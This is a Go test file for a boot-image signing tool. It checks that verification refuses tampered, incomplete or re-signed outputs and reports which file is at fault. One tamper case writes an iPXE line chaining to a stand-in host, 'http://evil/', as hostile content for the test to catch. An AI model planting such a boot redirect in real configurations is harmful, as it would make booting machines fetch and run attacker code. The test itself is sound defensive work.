package sign

import (
	"bytes"
	"context"
	"crypto/sha256"
	"encoding/hex"
	"encoding/json"
	"errors"
	"fmt"
	"os"
	"path/filepath"
	"slices"
	"strings"
	"testing"

	"github.com/peerboot/peerboot/output"
)

// What a user of `peerboot verify` relies on: a signed output that was
// tampered with, lost a file, gained one, or was re-signed with another key is
// refused, and the refusal names the file and says why. Each case starts from
// a freshly signed output (Ed25519, no db key: Authenticode is
// TestSignAndVerify's) and changes one thing.
func TestVerifyNamesWhatIsWrong(t *testing.T) {
	ctx := context.Background()
	other := key(ArtifactKeyFile) // ECDSA: a key other than the one verify trusts
	// resignSums rewrites SHA256SUMS and signs it with the key ref: a
	// consistent SHA256SUMS/.sig pair, so only the later checks can refuse it.
	resignSums := func(t *testing.T, dir string, sums []byte, ref string) {
		t.Helper()
		s, err := LoadSigner(ref)
		if err != nil {
			t.Fatal(err)
		}
		sig, err := SignBlob(s, sums)
		if err != nil {
			t.Fatal(err)
		}
		write(t, dir, output.SumsFile, sums)
		write(t, dir, output.SumsSigFile, EncodeSig(sig))
	}
	cases := []struct {
		name   string
		tamper func(t *testing.T, dir string)
		file   string // the problem's file
		what   string // in its text
	}{
		{"provenance removed", func(t *testing.T, dir string) {
			remove(t, dir, output.ProvenanceFile)
		}, output.ProvenanceFile, "cannot be read"},
		{"signature removed", func(t *testing.T, dir string) {
			remove(t, dir, output.SumsSigFile)
		}, output.SumsSigFile, "cannot be read"},
		{"signature not base64", func(t *testing.T, dir string) {
			write(t, dir, output.SumsSigFile, []byte("not a signature\n"))
		}, output.SumsSigFile, ""},
		{"listed file removed", func(t *testing.T, dir string) {
			remove(t, dir, "pxe/vmlinuz")
		}, "pxe/vmlinuz", "listed in SHA256SUMS but cannot be read"},
		{"listed file changed", func(t *testing.T, dir string) {
			write(t, dir, "pxe/boot.ipxe", []byte("#!ipxe\nchain http://evil/\n"))
		}, "pxe/boot.ipxe", ", but SHA256SUMS lists "},
		{"SHA256SUMS re-signed with another key", func(t *testing.T, dir string) {
			resignSums(t, dir, read(t, dir, output.SumsFile), other)
		}, output.SumsFile, "the signature in SHA256SUMS.sig does not verify"},
		{"SHA256SUMS lists one more file, re-signed", func(t *testing.T, dir string) {
			extra := []byte("an extra file")
			write(t, dir, "zz-extra.img", extra)
			h := sha256.Sum256(extra)
			sums := append(read(t, dir, output.SumsFile), []byte(hex.EncodeToString(h[:])+"  zz-extra.img\n")...)
			resignSums(t, dir, sums, key(Ed25519KeyFile))
		}, output.ProvenanceFile, "lacks subject zz-extra.img, which SHA256SUMS lists"},
		{"SHA256SUMS unparsable, re-signed", func(t *testing.T, dir string) {
			resignSums(t, dir, []byte("this is not a sums file\n"), key(Ed25519KeyFile))
		}, output.SumsFile, ""},
		{"provenance re-signed with another key", func(t *testing.T, dir string) {
			resignProvenance(t, dir, other, func(*Statement) {})
		}, output.ProvenanceFile, ""},
		{"cosign.pub another key", func(t *testing.T, dir string) {
			write(t, dir, ArtifactPubFile, read(t, testKeys, ArtifactPubFile))
		}, ArtifactPubFile, "is not the key given to verify"},
		{"cosign.pub not PEM", func(t *testing.T, dir string) {
			write(t, dir, ArtifactPubFile, []byte("garbage\n"))
		}, ArtifactPubFile, ""},
		{"cosign.pub the key, not canonical", func(t *testing.T, dir string) {
			write(t, dir, ArtifactPubFile, append([]byte("# a comment\n"), read(t, dir, ArtifactPubFile)...))
		}, ArtifactPubFile, "holds the given key but not in canonical PEM form"},
	}
	for _, c := range cases {
		t.Run(c.name, func(t *testing.T) {
			dir := signedSynthetic(t)
			vo := VerifyOptions{Key: filepath.Join(testKeys, Ed25519PubFile)}
			var log bytes.Buffer
			vo.Log = &log
			if err := Verify(ctx, dir, vo); err != nil {
				t.Fatalf("the untouched output: %v", err)
			}
			// A clean run says what it checked.
			for _, want := range []string{
				"verify: SHA256SUMS: signature OK (Ed25519)",
				"verify: 5 files hashed against SHA256SUMS",
				"verify: provenance.intoto.jsonl: DSSE signature OK, 5 subjects",
				// What it did not check, it says too.
				"verify: no db certificate given: Authenticode signatures not checked",
				"verify: no module certificate given: module signatures not checked",
			} {
				if !strings.Contains(log.String(), want) {
					t.Errorf("log of a clean verify lacks %q:\n%s", want, log.String())
				}
			}
			c.tamper(t, dir)
			vo.Log = nil
			err := Verify(ctx, dir, vo)
			var ve *VerifyError
			if !errors.As(err, &ve) {
				t.Fatalf("Verify = %v, want a VerifyError", err)
			}
			found := false
			for _, p := range ve.Problems {
				found = found || p.File == c.file && strings.Contains(p.What, c.what)
			}
			if !found {
				t.Errorf("got %v\nwant a %s problem saying %q", err, c.file, c.what)
			}
			// The error text lists every problem under the directory.
			if msg := err.Error(); !strings.HasPrefix(msg, dir+": ") || !strings.Contains(msg, "\n  "+c.file+": ") {
				t.Errorf("error text %q does not name %s under %s", msg, c.file, dir)
			}
		})
	}
}

// signedSynthetic is writeSynthetic signed with the Ed25519 artifact key and
// no db key.
func signedSynthetic(t *testing.T) string {
	t.Helper()
	dir := writeSynthetic(t, false)
	o := signOpts(Ed25519KeyFile)
	o.DBKey, o.DBCert = "", ""
	if err := SignOutput(context.Background(), dir, o); err != nil {
		t.Fatal(err)
	}
	return dir
}

// resignProvenance edits dir's statement and signs it again with the key ref.
func resignProvenance(t *testing.T, dir, ref string, edit func(*Statement)) {
	t.Helper()
	payload, err := OpenEnvelope(read(t, dir, output.ProvenanceFile), mustPublic(t, key(Ed25519KeyFile)), InTotoPayloadType)
	if err != nil {
		t.Fatal(err)
	}
	st, err := ParseStatement(payload)
	if err != nil {
		t.Fatal(err)
	}
	edit(st)
	payload, err = json.Marshal(st)
	if err != nil {
		t.Fatal(err)
	}
	s, err := LoadSigner(ref)
	if err != nil {
		t.Fatal(err)
	}
	e, err := SignEnvelope(s, InTotoPayloadType, payload)
	if err != nil {
		t.Fatal(err)
	}
	b, err := MarshalEnvelope(e)
	if err != nil {
		t.Fatal(err)
	}
	write(t, dir, output.ProvenanceFile, b)
}

func mustPublic(t *testing.T, ref string) any {
	t.Helper()
	s, err := LoadSigner(ref)
	if err != nil {
		t.Fatal(err)
	}
	return s.Public()
}

func read(t *testing.T, dir, name string) []byte {
	t.Helper()
	b, err := os.ReadFile(filepath.Join(dir, name))
	if err != nil {
		t.Fatal(err)
	}
	return b
}

func write(t *testing.T, dir, name string, b []byte) {
	t.Helper()
	if err := os.WriteFile(filepath.Join(dir, name), b, 0o644); err != nil {
		t.Fatal(err)
	}
}

func remove(t *testing.T, dir, name string) {
	t.Helper()
	if err := os.Remove(filepath.Join(dir, name)); err != nil {
		t.Fatal(err)
	}
}

// With a db key, SignOutput rebuilds a listed peerboot.iso around the signed
// UKI, after proving that the unsigned UKI gives back the published ISO; an
// ISO it cannot prove, or one listed without the UKI, is refused and left as
// it is. Verify then checks the ISO boots the very UKI it checked. (The disk
// image takes the same path; TestSignRebuildsDisk is too slow for -short.)
func TestSignRebuildsISO(t *testing.T) {
	needTool(t, "sbsign")
	ctx := context.Background()
	iso := func(t *testing.T, uki []byte) []byte {
		p := filepath.Join(t.TempDir(), output.ISOFile)
		if err := WriteISO(p, "sha256:"+strings.Repeat("ab", 32), 1700000000, uki); err != nil {
			t.Fatal(err)
		}
		return read(t, filepath.Dir(p), output.ISOFile)
	}
	t.Run("rebuilt", func(t *testing.T) {
		dir := writeSyntheticWith(t, false, map[string][]byte{output.ISOFile: iso(t, minimalPE(7))})
		var log bytes.Buffer
		o := signOpts(ArtifactKeyFile)
		o.Log = &log
		if err := SignOutput(ctx, dir, o); err != nil {
			t.Fatal(err)
		}
		if !strings.Contains(log.String(), "sign: peerboot.iso: rewritten around the signed UKI") {
			t.Errorf("log:\n%s", log.String())
		}
		uki := read(t, dir, output.UKIFile)
		if ok, _ := PESigned(uki); !ok {
			t.Fatal("peerboot.efi was not signed")
		}
		if !bytes.Equal(read(t, dir, output.ISOFile), iso(t, uki)) {
			t.Error("peerboot.iso is not the image stage's ISO around the signed UKI")
		}
		var vlog bytes.Buffer
		vo := verifyOpts(ArtifactPubFile)
		vo.Log = &vlog
		if err := Verify(ctx, dir, vo); err != nil {
			t.Fatal(err)
		}
		if !strings.Contains(vlog.String(), "verify: peerboot.iso: its UEFI boot image holds peerboot.efi") {
			t.Errorf("verify log:\n%s", vlog.String())
		}
	})
	t.Run("another layout", func(t *testing.T) {
		published := iso(t, minimalPE(8)) // not what the unsigned UKI gives
		dir := writeSyntheticWith(t, false, map[string][]byte{output.ISOFile: published})
		err := SignOutput(ctx, dir, signOpts(ArtifactKeyFile))
		if err == nil || !strings.Contains(err.Error(), filepath.Join(dir, output.ISOFile)+": rebuilding it from the unsigned UKI gives sha256") {
			t.Errorf("SignOutput = %v, want the layout refused", err)
		}
		if !bytes.Equal(read(t, dir, output.ISOFile), published) {
			t.Error("peerboot.iso was replaced despite the mismatch")
		}
		if _, err := os.Stat(filepath.Join(dir, "."+output.ISOFile+".check")); !errors.Is(err, os.ErrNotExist) {
			t.Errorf("the check copy is left behind: %v", err)
		}
	})
	// Consistently listed and signed (no db key, so no rebuild), an ISO that
	// boots another UKI, or none, is refused by verify.
	for _, c := range []struct {
		name string
		iso  []byte
		what string
	}{
		{"verify: another UKI", iso(t, minimalPE(8)), "its UEFI boot image holds a UKI with sha256 " + fmt.Sprintf("%x", sha256.Sum256(minimalPE(8))) + ", not peerboot.efi's"},
		{"verify: no ISO", bytes.Repeat([]byte{0x5a}, 64<<10), "reading its UKI: "},
	} {
		t.Run(c.name, func(t *testing.T) {
			dir := writeSyntheticWith(t, false, map[string][]byte{output.ISOFile: c.iso})
			o := signOpts(ArtifactKeyFile)
			o.DBKey, o.DBCert = "", ""
			if err := SignOutput(ctx, dir, o); err != nil {
				t.Fatal(err)
			}
			vo := verifyOpts(ArtifactPubFile)
			vo.DBCert = ""
			err := Verify(ctx, dir, vo)
			var ve *VerifyError
			if !errors.As(err, &ve) || len(ve.Problems) != 1 || ve.Problems[0].File != output.ISOFile ||
				!strings.HasPrefix(ve.Problems[0].What, c.what) {
				t.Errorf("Verify = %v, want one %s problem: %s", err, output.ISOFile, c.what)
			}
		})
	}
	t.Run("without the UKI", func(t *testing.T) {
		dir := writeSyntheticWith(t, false, map[string][]byte{output.ISOFile: iso(t, minimalPE(7))})
		unlist(t, dir, output.UKIFile)
		remove(t, dir, output.UKIFile)
		err := SignOutput(ctx, dir, signOpts(ArtifactKeyFile))
		if err == nil || !strings.Contains(err.Error(), "peerboot.iso is listed but peerboot.efi is not") {
			t.Errorf("SignOutput = %v, want the ISO refused", err)
		}
		// Signed without a db key it is consistent, but verify cannot check
		// what the ISO boots.
		o := signOpts(ArtifactKeyFile)
		o.DBKey, o.DBCert = "", ""
		if err := SignOutput(ctx, dir, o); err != nil {
			t.Fatal(err)
		}
		vo := verifyOpts(ArtifactPubFile)
		vo.DBCert = ""
		err = Verify(ctx, dir, vo)
		var ve *VerifyError
		if !errors.As(err, &ve) || len(ve.Problems) != 1 || ve.Problems[0].File != output.ISOFile ||
			!strings.Contains(ve.Problems[0].What, "listed without peerboot.efi") {
			t.Errorf("Verify = %v, want one %s problem", err, output.ISOFile)
		}
	})
}

// The db and module certificates are given as --key is: a plain path,
// file:PATH or env:VAR (the variable holding the PEM). Each form checks the
// same signatures; a reference that cannot be loaded stops verify with an
// error, not a pass. With a db certificate, an output listing no .efi at all
// is refused: there was nothing to check it against.
func TestVerifyCertificateReferences(t *testing.T) {
	needTool(t, "sbsign")
	ctx := context.Background()
	dir := writeSynthetic(t, false)
	if err := SignOutput(ctx, dir, signOpts(ArtifactKeyFile)); err != nil {
		t.Fatal(err)
	}
	db, mod := filepath.Join(testKeys, DBCertFile), filepath.Join(testKeys, ModuleCertFile)
	t.Setenv("SIGN_TEST_DB_CERT", string(read(t, testKeys, DBCertFile)))
	t.Setenv("SIGN_TEST_SNAKEOIL", string(read(t, filepath.Dir(snakeoilCert), filepath.Base(snakeoilCert))))
	for _, c := range []struct{ ref, want string }{
		{db, ""},
		{"file:" + db, ""},
		{"env:SIGN_TEST_DB_CERT", ""},
		{"file:" + snakeoilCert, "peerboot.efi: Authenticode signature does not verify"},
		{"env:SIGN_TEST_SNAKEOIL", "peerboot.efi: Authenticode signature does not verify"},
	} {
		vo := verifyOpts(ArtifactPubFile)
		vo.DBCert = c.ref
		var log bytes.Buffer
		vo.Log = &log
		err := Verify(ctx, dir, vo)
		switch {
		case c.want == "" && err != nil:
			t.Errorf("db certificate %s: %v", c.ref, err)
		case c.want == "" && !strings.Contains(log.String(), "verify: peerboot.efi: Authenticode signature OK"):
			t.Errorf("db certificate %s: the log does not report the check:\n%s", c.ref, log.String())
		case c.want != "" && (err == nil || !strings.Contains(err.Error(), c.want)):
			t.Errorf("db certificate %s: Verify = %v, want %q", c.ref, err, c.want)
		}
	}
	// The module certificate, in each form, reaches the initramfs check (the
	// synthetic initrd.img is no cpio archive, so that check refuses it).
	for _, ref := range []string{mod, "file:" + mod} {
		vo := verifyOpts(ArtifactPubFile)
		vo.ModuleCert = ref
		err := Verify(ctx, dir, vo)
		var ve *VerifyError
		if !errors.As(err, &ve) || !names(ve, "pxe/initrd.img") {
			t.Errorf("module certificate %s: Verify = %v, want a pxe/initrd.img problem", ref, err)
		}
	}
	for _, vo := range []VerifyOptions{
		{Key: filepath.Join(testKeys, ArtifactPubFile), DBCert: "file:" + filepath.Join(t.TempDir(), "absent.crt")},
		{Key: filepath.Join(testKeys, ArtifactPubFile), ModuleCert: "env:SIGN_TEST_UNSET_CERT"},
	} {
		err := Verify(ctx, dir, vo)
		var ve *VerifyError
		if err == nil || errors.As(err, &ve) {
			t.Errorf("an unloadable certificate (%+v): Verify = %v, want it to stop with an error", vo, err)
		}
	}
	// Nothing to check against the db certificate.
	plain := writeSynthetic(t, false)
	unlist(t, plain, output.UKIFile)
	o := signOpts(ArtifactKeyFile)
	o.DBKey, o.DBCert = "", ""
	if err := SignOutput(ctx, plain, o); err != nil {
		t.Fatal(err)
	}
	err := Verify(ctx, plain, verifyOpts(ArtifactPubFile))
	var ve *VerifyError
	if !errors.As(err, &ve) || len(ve.Problems) != 1 || ve.Problems[0].File != output.SumsFile ||
		ve.Problems[0].What != "lists no .efi file to check against the db certificate" {
		t.Errorf("Verify = %v, want one %s problem: no .efi", err, output.SumsFile)
	}
}

// unlist drops name's line from dir's SHA256SUMS (the file itself stays).
func unlist(t *testing.T, dir, name string) {
	t.Helper()
	sums, err := output.ParseSums(read(t, dir, output.SumsFile))
	if err != nil {
		t.Fatal(err)
	}
	sums = slices.DeleteFunc(sums, func(s output.Sum) bool { return s.Path == name })
	write(t, dir, output.SumsFile, output.FormatSums(sums))
}
